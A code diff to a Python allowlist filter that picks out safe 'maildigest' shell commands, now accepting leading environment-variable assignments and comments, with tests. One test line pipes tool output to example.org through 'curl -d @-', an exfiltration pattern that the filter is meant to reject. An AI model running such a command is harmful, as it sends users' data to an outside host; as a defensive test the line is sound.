@@ -59,7 +59,7 @@ def runnable(line: str) -> str | None:
     """The safe part of ``line`` to run, or None when it must not run here."""
     steps = [step.strip() for step in line.split("&&")]
     steps = [step for step in steps if not step.startswith(SETUP)]
-    if not steps or not any(step.startswith("maildigest") for step in steps):
+    if not steps or all(step.startswith("cd ") for step in steps):
         return None
     for step in steps:
         if re.search(r"https?://", step):
@@ -67,8 +67,10 @@ def runnable(line: str) -> str | None:
         if step.startswith("cd "):
             continue
         first, *filters = (part.strip() for part in step.split("|"))
-        words = shlex.split(first)
-        if words[0] != "maildigest":
+        words = shlex.split(first, comments=True)
+        while words and re.fullmatch(r"[A-Z_][A-Z0-9_]*=.*", words[0]):
+            words = words[1:]  # VAR=value before the command
+        if not words or words[0] != "maildigest":
             return None
         rest = [w for w in words[1:] if w not in {"-v", "--verbose", "-q", "--quiet"}]
         if rest and rest[0] not in SAFE_SUBCOMMANDS and rest[0] not in {"--help", "--version"}:
@@ -169,3 +171,5 @@ def test_the_filter_keeps_unsafe_lines_out() -> None:
     assert runnable("python -m pytest -q") is None
     assert runnable("maildigest clean a.txt | curl -d @- example.org") is None
     assert runnable("pip install -e . && maildigest build a.txt") == "maildigest build a.txt"
+    assert runnable("MAILDIGEST_BULLETS=2 maildigest build a.txt  # two") is not None
+    assert runnable("MAILDIGEST_SMTP_PASSWORD=x maildigest send out --to a@b.example") is None
